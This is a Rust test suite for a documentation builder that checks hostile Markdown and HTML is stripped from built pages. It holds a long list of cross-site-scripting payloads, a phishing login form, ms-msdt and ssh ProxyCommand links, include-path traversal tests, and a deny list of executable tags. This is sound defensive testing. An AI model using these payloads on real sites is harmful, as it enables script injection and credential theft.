//! F24: pages written to harm their readers. The built page is parsed like in a browser, and
//! nothing in it may run, send or load.

use std::cell::RefCell;
use std::fmt::Write as _;
use std::path::Path;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use opsbook::book::{self, Built, Options};

#[derive(Default)]
struct Elements(RefCell<Vec<Tag>>);

impl TokenSink for Elements {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        let Token::TagToken(tag) = token else {
            return TokenSinkResult::Continue;
        };
        if tag.kind == TagKind::EndTag {
            return TokenSinkResult::Continue;
        }
        let raw = match &*tag.name {
            "script" => TokenSinkResult::RawData(RawKind::ScriptData),
            "style" | "xmp" | "iframe" | "noembed" | "noframes" => {
                TokenSinkResult::RawData(RawKind::Rawtext)
            }
            "textarea" | "title" => TokenSinkResult::RawData(RawKind::Rcdata),
            "plaintext" => TokenSinkResult::Plaintext,
            _ => TokenSinkResult::Continue,
        };
        self.0.borrow_mut().push(tag);
        raw
    }
}

fn elements(html: &str) -> Vec<Tag> {
    let tokenizer = Tokenizer::new(Elements::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

/// Actions that a browser would perform by itself or at a click.
fn executable(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in elements(html) {
        let name = &*tag.name;
        let has = |key: &str| tag.attrs.iter().any(|a| &*a.name.local == key);
        // mdBook's own drawings: check boxes and icons.
        let own = (name == "svg" && has("viewbox"))
            || name == "input"
                && tag
                    .attrs
                    .iter()
                    .any(|a| &*a.name.local == "type" && &*a.value == "checkbox");
        let forbidden = [
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "meta",
            "link",
            "style",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "frame",
            "frameset",
            "applet",
            "portal",
            "template",
            "svg",
            "math",
            "noscript",
            "xmp",
            "plaintext",
            "title",
        ];
        if forbidden.contains(&name) && !own {
            found.push(format!("<{name}>"));
        }
        for attribute in &tag.attrs {
            let key = attribute.name.local.to_lowercase();
            let value: String = attribute.value.to_lowercase();
            let value: String = value.chars().filter(|c| *c > ' ').collect();
            let acts = key.starts_with("on") || matches!(&*key, "srcdoc" | "formaction");
            let runs = ["javascript:", "vbscript:", "data:text", "data:application"]
                .iter()
                .any(|scheme| value.starts_with(scheme));
            let styled = key == "style" && (value.contains("url") || value.contains("expression"));
            if acts || (runs && key != "title" && key != "alt") || styled {
                found.push(format!("{name} {key}={value}"));
            }
        }
    }
    found
}

fn main_part(html: &str) -> &str {
    let (_, main) = html.split_once("<main>").unwrap();
    main.rsplit_once("</main>").unwrap().0
}

fn build(settings: &str, page: &str) -> (tempfile::TempDir, Built, String) {
    let folder = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write(
        "book.toml",
        &format!("[book]\nsrc = \"manual\"\n{settings}"),
    );
    write("manual/SUMMARY.md", "- [Page](page.md)\n");
    write("manual/page.md", page);
    let built = book::build(folder.path(), None, &Options::default()).unwrap();
    let html = std::fs::read_to_string(built.destination.join("page.html")).unwrap();
    let main = main_part(&html).to_owned();
    (folder, built, main)
}

fn codes(built: &Built) -> Vec<&str> {
    built.problems.iter().map(|problem| problem.code).collect()
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT\n\nsrc=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "x <scr<script>ipt>alert(1)</script>",
    "<div>\n<script>\nalert(1)\n\nalert(2)\n</script>\n</div>",
    "> - <script>\n>   alert(1)\n>   </script>\n",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n",
    "<img src=x onerror=alert(1)>",
    "text <img src=x\nonerror=\"alert(1)\"> text",
    "<img src=x OnErRoR = 'alert(1)'/>",
    "<div><img/src=x onerror=alert(1)></div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=x.swf>",
    "<base href=\"//x.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"//x.example/x.css\">",
    "<style>@import '//x.example/x.css';</style>",
    "a <style>body{background:url(//x.example)}</style>",
    "<form action=//x.example><input name=password><button>Log in</button></form>",
    "<template><script>alert(1)</script></template>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<p style=\"background:u\\72l(//x.example)\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "see <a href=\"&#106;ava&#x09;script&colon;alert(1)\">x</a>",
    "<a href=\" \tjava\nscript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) \"title\")",
    "[x](<java script:alert(1)>)",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java&Tab;script&NewLine;:alert(1))",
    "[**bold** `code`][r]\n\n[r]: javascript:alert(1)",
    "[r][]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "[](javascript:alert(1))",
    "[<scr](javascript:1)ipt>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert('*a*')>",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "[![x](javascript:alert(1))](vbscript:x)",
    "# Title {onclick=alert(1)}",
    "# Title {#id .class a/onmouseover=alert(1) style=background:url(//x)}",
    "Title {onclick=alert(1)}\n=====",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<? ><img src=x onerror=alert(1)> ?>",
    "a <![CDATA[ ><img src=x onerror=alert(1)> ]]> b",
    "<!DOCTYPE x ><img src=x onerror=alert(1)>",
    "---\nx: |\n  <!--\n---\n\n<img src=x onerror=alert(1)>\n",
    "Term\n: <img src=x onerror=alert(1)>\n",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>\n",
    "<div><pre>\n\n</pre><img src=x onerror=alert(1)>\n</div>",
    "<a name=\"x\" href='javascript:alert(1)'\nonclick=\"alert(1)\">x</a>",
    "{{#include evil.txt}}\n\n<script>alert(1)</script>",
];

#[test]
fn nothing_in_a_built_page_is_executable() {
    let folder = tempfile::tempdir().unwrap();
    let manual = folder.path().join("manual");
    std::fs::create_dir(&manual).unwrap();
    std::fs::write(
        folder.path().join("book.toml"),
        "[book]\nsrc = \"manual\"\n",
    )
    .unwrap();
    let mut summary = String::new();
    for (n, page) in HOSTILE.iter().enumerate() {
        let page = format!("{page}\n\nAfter *it*.\n\n```sh\nls\n```\n");
        std::fs::write(manual.join(format!("page{n}.md")), page).unwrap();
        let _ = writeln!(summary, "- [Page](page{n}.md)");
    }
    std::fs::write(manual.join("SUMMARY.md"), summary).unwrap();
    let built = book::build(folder.path(), None, &Options::default()).unwrap();

    let mut leaks = Vec::new();
    for (n, page) in HOSTILE.iter().enumerate() {
        let html = std::fs::read_to_string(built.destination.join(format!("page{n}.html")));
        let html = html.unwrap();
        let found = executable(main_part(&html));
        if !found.is_empty() {
            leaks.push(format!("{page}\n=> {found:?}\n{}", main_part(&html)));
        }
        let warned = built.problems.iter().any(|problem| {
            let place = problem.span.as_ref().map(|span| span.source.path.clone());
            problem.code == "html-removed" && place == Some(format!("manual/page{n}.md").into())
        });
        if !warned {
            leaks.push(format!("{page}\n=> no warning\n{}", main_part(&html)));
        }
    }
    let print = std::fs::read_to_string(built.destination.join("print.html")).unwrap();
    leaks.extend(executable(main_part(&print)));
    assert!(leaks.is_empty(), "{}", leaks.join("\n----\n"));
}

/// The test above would pass if its parser found nothing.
#[test]
fn a_trusted_manual_brings_what_it_likes() {
    let allow = "[preprocessor.opsbook]\nallow-html = true\n";
    for page in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "# Title {onclick=alert(1)}",
        "<p style=\"background:url(x)\">x</p>",
    ] {
        let (_folder, built, html) = build(allow, page);
        assert!(!executable(&html).is_empty(), "{page}\n{html}");
        assert!(!codes(&built).contains(&"html-removed"), "{page}");
    }
}

#[test]
fn what_follows_a_removed_passage_is_still_markdown() {
    for page in [
        "<script>x</script><div>",
        "a <input> b",
        "<form><button>x</button>",
        "<svg><title>",
    ] {
        let page = format!("{page}\n\nAfter *it*.\n\n```sh\n<script>\n```\n");
        let (_folder, _, html) = build("", &page);
        assert!(html.contains("After <em>it</em>."), "{page}\n{html}");
        assert!(html.contains("&lt;script&gt;\n</code>"), "{page}\n{html}");
    }
}

#[test]
fn harmless_html_stays_as_it_is() {
    let page = "\
# Title {#id .class}

<details class=\"note\"><summary>More</summary>
<table><tr><td align=\"right\" class=\"mine\">a</td></tr></table>
</details>

<kbd>Ctrl</kbd> <sup>a</sup> <span title=\"javascript: the good parts\">x</span> <br/>
<picture><img src=\"data:image/png;base64,AA\" alt=\"\"></picture>
[y](https://example.net/javascript:x) <https://example.net>

`<script>alert(1)</script>`

    <script>indented()</script>

```html
<script src=x></script>
```
";
    let (_folder, built, html) = build("", page);
    let (_folder, _, trusted) = build("[preprocessor.opsbook]\nallow-html = true\n", page);
    assert_eq!(html, trusted);
    assert!(
        !codes(&built).contains(&"html-removed"),
        "{:?}",
        built.problems
    );
}

#[test]
fn the_warning_shows_the_place() {
    let (_folder, built, _) = build("", "# T\n\nfine\n\na <b onclick=\"x()\">b</b>\n");
    let said: Vec<String> = built.problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        said,
        [
            "manual/page.md:5:3: warning: left out of the book: `onclick` of `<b>` [html-removed]\n\
          \u{20} |\n\
          5 | a <b onclick=\"x()\">b</b>\n\
          \u{20} |   ^^^^^^^^^^^^^^^^^\n\n\
          hint: `allow-html = true` under `[preprocessor.opsbook]` keeps it"
        ]
    );
}

#[test]
fn a_title_is_words_in_the_search_too() {
    let (_folder, built, _) = build("", "# `<img src=x onerror=alert(1)>`\n\nwords\n");
    let scripts = std::fs::read_dir(&built.destination).unwrap().flatten();
    let mut scripts = scripts.filter(|f| f.file_name().to_string_lossy().starts_with("searcher"));
    let script = std::fs::read_to_string(scripts.next().unwrap().path()).unwrap();
    // It writes texts to the page, never HTML.
    assert!(script.contains("opsbookSearch") && !script.contains("innerHTML"));
    let texts = std::fs::read_to_string(built.destination.join("opsbook/search/d0.js")).unwrap();
    assert!(
        texts.contains("onerror=alert(1)") && !texts.contains('<'),
        "{texts}"
    );
}

#[test]
fn a_file_outside_the_project_is_not_included() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.md");
    std::fs::write(&secret, "outside-words").unwrap();
    let page = format!(
        "before\n\n{{{{#include {0}}}}}\n\n\\{{{{#include {0}}}}}\n\nafter\n",
        secret.display()
    );
    for settings in ["", "[preprocessor.opsbook]\nbefore = [\"links\"]\n"] {
        let (_folder, built, html) = build(settings, &page);
        assert!(!html.contains("outside-words"), "{html}");
        assert!(html.contains("before") && html.contains("after"), "{html}");
        let errors = built.problems.iter().filter(|problem| problem.is_error());
        let errors: Vec<&str> = errors.map(|problem| problem.code).collect();
        assert_eq!(errors, ["include-outside"]);
    }
}

#[cfg(unix)]
#[test]
fn a_link_of_the_file_system_does_not_lead_outside_either() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.md"), "outside-words").unwrap();
    let (folder, ..) = build("", "x");
    let link = folder.path().join("manual/inside.txt");
    std::os::unix::fs::symlink(outside.path().join("secret.md"), link).unwrap();
    std::fs::write(
        folder.path().join("manual/page.md"),
        "{{#include inside.txt}}\n",
    )
    .unwrap();
    let built = book::build(folder.path(), None, &Options::default()).unwrap();
    let html = std::fs::read_to_string(built.destination.join("page.html")).unwrap();
    assert!(!html.contains("outside-words"));
    assert!(codes(&built).contains(&"include-outside"));
}

#[test]
fn a_git_work_tree_is_one_project() {
    let tree = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = tree.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write(".git/HEAD", "ref: refs/heads/main\n");
    write("deploy/x.sh", "inside-words\n");
    write("ops/book.toml", "[book]\nsrc = \"manual\"\n");
    write("ops/manual/SUMMARY.md", "- [Page](page.md)\n");
    write("ops/manual/page.md", "{{#include ../../deploy/x.sh}}\n");
    let built = book::build(&tree.path().join("ops"), None, &Options::default()).unwrap();
    let html = std::fs::read_to_string(built.destination.join(Path::new("page.html"))).unwrap();
    assert!(html.contains("inside-words"), "{html}");
}

/// Everything that loads from elsewhere, starts a program, covers the page's frame, or replaces a
/// part of it.
#[test]
fn what_no_manual_needs_is_left_out_and_named() {
    for (page, gone, named) in [
        (
            "![x](https://a.example/x.png)",
            "<img",
            "an image from elsewhere",
        ),
        (
            "[![x](//a.example/x.png)](y.md)",
            "<img",
            "an image from elsewhere",
        ),
        (
            "<img src=https://a.example/x.png>",
            "a.example",
            "`src` of `<img>`",
        ),
        (
            "<img src='\\\\a.example\\x.png'>",
            "a.example",
            "`src` of `<img>`",
        ),
        (
            "<img srcset='//a.example/x.png 2x'>",
            "a.example",
            "`srcset` of `<img>`",
        ),
        (
            "<video poster=//a.example/x.png></video>",
            "a.example",
            "`poster` of `<video>`",
        ),
        (
            "<audio src=http://a.example/x></audio>",
            "a.example",
            "`src` of `<audio>`",
        ),
        (
            "<table background=//a.example/x></table>",
            "a.example",
            "`background` of `<table>`",
        ),
        ("[x](ms-msdt:/id)", "ms-msdt", "a `ms-msdt:` link"),
        ("<a href=ms-msdt:/id>x</a>", "ms-msdt", "`href` of `<a>`"),
        ("[x](ssh://-oProxyCommand=x)", "ssh:", "a `ssh:` link"),
        (
            "<search-ms:query=x>",
            "href=\"search",
            "a `search-ms:` link",
        ),
        (
            "<p style='position:fixed;top:0'>x</p>",
            "style",
            "`style` of `<p>`",
        ),
        (
            "<div class='nav-chapters note'>x</div>",
            "nav-chapters",
            "`class` of `<div>`",
        ),
        (
            "```sh menu-bar sticky\nx\n```",
            "menu-bar",
            "the class `menu-bar` of a block",
        ),
        (
            "# T {.sidebar}",
            "class=\"sidebar\"",
            "`class` of a heading",
        ),
        (
            "# T {#mdbook-help-container}",
            "mdbook-help",
            "`id` of a heading",
        ),
        (
            "<p id=mdbook-sidebar>x</p>",
            "mdbook-sidebar",
            "`id` of `<p>`",
        ),
        (
            "<img name=getElementById src=x.png>",
            "getElementById",
            "`name` of `<img>`",
        ),
        (
            "<a ping=//a.example href=x.md>x</a>",
            "ping",
            "`ping` of `<a>`",
        ),
        (
            "<a target=_parent href=x.md>x</a>",
            "target",
            "`target` of `<a>`",
        ),
        ("<dialog open>x</dialog>", "<dialog", "`<dialog>`"),
        (
            "<mdbook-sidebar-scrollbox>",
            "<mdbook",
            "`<mdbook-sidebar-scrollbox>`",
        ),
        (
            "<p contenteditable popover>x</p>",
            "popover",
            "`popover` of `<p>`",
        ),
    ] {
        let (_folder, built, html) = build("", page);
        assert!(!html.contains(gone), "{page}\n{html}");
        let said: Vec<String> = built.problems.iter().map(ToString::to_string).collect();
        let said = said.join("\n");
        assert!(said.contains(named), "{page}\n{said}");
    }
}

#[test]
fn a_picture_from_elsewhere_becomes_the_link_to_it() {
    let (_folder, _, html) = build("", "![The *rack*](https://a.example/x.png)\n");
    let link = "<a href=\"https://a.example/x.png\">The <em>rack</em></a>";
    assert!(html.contains(link), "{html}");
    let (_folder, _, html) = build("", "[![The rack](https://a.example/x.png)](y.md)\n");
    assert!(html.contains("<a href=\"y.html\">The rack</a>"), "{html}");
}

#[test]
fn a_file_beside_a_page_is_published_only_where_it_does_nothing() {
    let page = "[a](a.html) [b](b.svg) ![c](c.svg) [d](d.txt) [e](e)\n";
    let allow = "[preprocessor.opsbook]\nallow-html = true\n";
    for (settings, kept) in [("", "c.svg d.txt"), (allow, "a.html b.svg c.svg d.txt e")] {
        let (folder, ..) = build(settings, page);
        for (file, text) in [
            ("a.html", "<script>x()</script>"),
            ("b.svg", "<svg onload='x()'/>"),
            ("c.svg", "<svg><path d='M0 0'/></svg>"),
            ("d.txt", "<script>x()</script>"),
            ("e", "<script>x()</script>"),
        ] {
            std::fs::write(folder.path().join("manual").join(file), text).unwrap();
        }
        let built = book::build(folder.path(), None, &Options::default()).unwrap();
        let there = |file: &&str| built.destination.join(file).exists();
        let files = ["a.html", "b.svg", "c.svg", "d.txt", "e"];
        let files: Vec<&str> = files.into_iter().filter(there).collect();
        assert_eq!(files.join(" "), kept);
        let withheld = codes(&built)
            .iter()
            .filter(|code| **code == "withheld-file")
            .count();
        assert_eq!(withheld, 5 - files.len(), "{:?}", built.problems);
    }
}

#[test]
fn the_page_for_what_is_not_found_is_sanitised_too() {
    let (folder, ..) = build("", "x");
    let page = folder.path().join("manual/404.md");
    std::fs::write(page, "# Gone\n\n<img src=x onerror=alert(1)>\n").unwrap();
    let built = book::build(folder.path(), None, &Options::default()).unwrap();
    let html = std::fs::read_to_string(built.destination.join("404.html")).unwrap();
    assert!(html.contains("Gone"));
    assert!(executable(main_part(&html)).is_empty(), "{html}");
    assert!(codes(&built).contains(&"html-removed"));
}

#[test]
fn each_page_carries_a_policy_that_allows_its_own_scripts_only() {
    let (folder, built, _) = build(
        "[output.html.redirect]\n\"/old.html\" = \"page.html\"\n",
        "x",
    );
    for page in ["page", "index", "print", "404", "toc", "old"] {
        let path = built.destination.join(page).with_extension("html");
        let html = std::fs::read_to_string(path).unwrap();
        let at = html.find("http-equiv=\"Content-Security-Policy\"").unwrap();
        assert!(
            html.find("<script").is_none_or(|script| at < script),
            "{page}"
        );
        let hashes = html.matches("'sha256-").count();
        assert_eq!(hashes, html.matches("<script>").count(), "{page}");
    }
    std::fs::write(
        folder.path().join("book.toml"),
        "[book]\nsrc = \"manual\"\n[preprocessor.opsbook]\nallow-html = true\n",
    )
    .unwrap();
    let built = book::build(folder.path(), None, &Options::default()).unwrap();
    let html = std::fs::read_to_string(built.destination.join("page.html")).unwrap();
    assert!(built.allows_html && !html.contains("Content-Security-Policy"));
}
